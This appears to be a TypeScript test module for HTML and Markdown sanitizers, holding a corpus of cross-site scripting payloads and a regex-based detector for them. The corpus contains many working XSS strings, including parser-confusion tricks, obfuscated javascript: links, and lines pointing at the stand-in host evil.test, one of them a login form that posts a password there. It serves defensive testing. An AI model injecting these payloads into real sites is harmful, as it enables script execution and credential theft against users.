const script = (text: string) => `<script>${text}</script>`
const call = 'alert(1)'

const elements = [
  script(call),
  `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
  `<script\n>alert(1)</script\n>`,
  `<<script>alert(1)//<</script>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="x" OnErRoR="alert(1)">`,
  `<img/src=x/onerror=alert(1)>`,
  `<img src=x onerror\n=\nalert(1)>`,
  `<img src=\`x\` onerror=\`alert(1)\`>`,
  `<img """><script>alert(1)</script>">`,
  `<img src=x:alert(1) onerror=eval(src)>`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:alert(1)></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src="</style><img src=x onerror=alert(1)//">`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<applet code=x></applet>`,
  `<link rel=stylesheet href="//evil.test/x.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
  `<base href="//evil.test/">`,
  `<style>@import "//evil.test/x.css";</style>`,
  `<style>*{background:url(javascript:alert(1))}</style>`,
  `<body onload=alert(1)>`,
  `<html onmouseover=alert(1)>x</html>`,
  `<video src=x onerror=alert(1)></video>`,
  `<video><source onerror=alert(1)></video>`,
  `<audio src=x onerror=alert(1)></audio>`,
  `<details open ontoggle=alert(1)><summary>x</summary></details>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<select autofocus onfocus=alert(1)></select>`,
  `<textarea autofocus onfocus=alert(1)></textarea>`,
  `<input autofocus onfocus=alert(1)>`,
  `<keygen autofocus onfocus=alert(1)>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<form action="javascript:alert(1)"><input type=submit></form>`,
  `<form id=login action="https://evil.test"><input name=password></form>`,
  `<isindex action="javascript:alert(1)" type=submit>`,
  `<template><script>alert(1)</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
  `<noembed><img src="</noembed><img src=x onerror=alert(1)>"></noembed>`,
  `<title><img src="</title><img src=x onerror=alert(1)>"></title>`,
  `<dialog open onclose=alert(1)>x</dialog>`,
  `<custom-element onclick=alert(1)>x</custom-element>`,
  `<portal src="javascript:alert(1)"></portal>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<!-- --!><img src=x onerror=alert(1)> -->`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>`,
]

const attributes = [
  `<p style="position:fixed;inset:0;background:url(//evil.test)">x</p>`,
  `<p id="app" name="app">x</p>`,
  `<a name="body" id="cookie">x</a>`,
  `<img name="getElementById" src="x.png">`,
  `<b onclick=alert(1)>x</b>`,
  `<b onpointerrawupdate=alert(1)>x</b>`,
  `<b onfocus=alert(1) tabindex=1 autofocus>x</b>`,
  `<b onbeforetoggle=alert(1) popover id=x>y</b>`,
  `<b onanimationstart=alert(1) style="animation:x 1s">y</b>`,
  `<p class="fixed inset-0 z-50">x</p>`,
  `<a ping="//evil.test" href="/x">x</a>`,
  `<a href="/x" target="_top" download="x.exe">x</a>`,
  `<img srcset="//evil.test/x.png 1x" src="x.png">`,
  `<span contenteditable accesskey=x is="x-y">z</span>`,
  `<a href="https://evil.test" rel="opener">x</a>`,
  `<td background="javascript:alert(1)">x</td>`,
  `<q cite="javascript:alert(1)">x</q>`,
]

const addresses = [
  `[x](javascript:alert(1))`,
  `[x](JaVaScRiPt:alert(1))`,
  `[x](javascript&colon;alert(1))`,
  `[x](java&#x0A;script:alert(1))`,
  `[x](&#106;avascript:alert(1))`,
  `[x](\u0001javascript:alert(1))`,
  `[x](vbscript:msgbox(1))`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `![x](javascript:alert(1))`,
  `[x]: javascript:alert(1)\n\n[x]`,
  `<javascript:alert(1)>`,
  `<a href="java\tscript:alert(1)">x</a>`,
  `<a href="java\nscript:alert(1)">x</a>`,
  `<a href="\u00ADjavascript:alert(1)">x</a>`,
  `<a href=" javascript:alert(1)">x</a>`,
  `<a href="javascript&Tab;:alert(1)">x</a>`,
  `<a href="&#x6A;&#x61;vascript:alert(1)">x</a>`,
  `<a href="blob:https://evil.test/x">x</a>`,
  `<a href="file:///etc/passwd">x</a>`,
  `<a href="intent://evil#Intent;end">x</a>`,
  `<a data-wiki="javascript:alert(1)" class="wiki-link">x</a>`,
  `<span class="remote-image" data-src="javascript:alert(1)">x</span>`,
]

const markdown = [
  '```"onmouseover="alert(1)\nx\n```',
  '```js"><img src=x onerror=alert(1)>\nx\n```',
  '```mermaid\n<img src=x onerror=alert(1)>\n```',
  '```mermaid\n%%{init: {"securityLevel":"loose"}}%%\ngraph TD\nA[<img src=x onerror=alert(1)>]\nclick A "javascript:alert(1)"\n```',
  '$<img src=x onerror=alert(1)>$',
  '$$\n\\href{javascript:alert(1)}{x}\n$$',
  '$\\htmlData{x=<img src=x onerror=alert(1)>}{y}$',
  '[a](https://e.test "\\" onmouseover=alert(1) x=\\"")',
  '![" onerror="alert(1)](x.png)',
  '[[x" onmouseover="alert(1)]]',
  '![[x" onerror="alert(1).png]]',
  '---\n"<img src=x onerror=alert(1)>": <script>alert(1)</script>\n---\n',
  '# <img src=x onerror=alert(1)> " id="x',
  'x[^"><script>]\n\n[^"><script>]: <img src=x onerror=alert(1)>',
  '- [ ] " onclick="alert(1) <img src=x onerror=alert(1)>',
  '| <img src=x onerror=alert(1)> |\n|:-:|\n| `<script>` |',
  'https://e.test/"onmouseover="alert(1)',
  '<https://e.test/"onmouseover="alert(1)>',
]

/** Markdown and HTML texts that every sanitizer must make harmless. */
export const hostileCorpus = [...elements, ...attributes, ...addresses, ...markdown]

/** Returns the dangerous parts found in the tags of this HTML. */
export function findXss(html: string) {
  const tags = html.match(/<[a-z!/?](?:"[^"]*"|'[^']*'|[^>"'])*>/gi) ?? []
  return tags.filter((tag) => {
    const withoutValues = tag.replace(/"[^"]*"|'[^']*'/g, '""')
    return harmfulElement.test(tag) || harmfulAttribute.test(withoutValues) || harmfulAddress.test(tag)
  })
}

const harmfulElement =
  /^<\/?(script|style|svg|math|iframe|object|embed|applet|link|meta|base|form|input|button|select|textarea|video|audio|source|template|noscript|body|html|dialog|marquee|portal|keygen|isindex|xmp|title|!|\?)/i
const harmfulAttribute =
  /[\s"'/](on\w+|style|id|name|srcset|ping|target|download|background|cite|popover|tabindex|autofocus|is|formaction|action)\s*=/i
const harmfulAddress =
  /\s(href|src|data-src)\s*=\s*["']?[\s\p{Cc}\p{Cf}]*(j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t|vbscript|data|blob|file|intent|&)[^"']*/iu
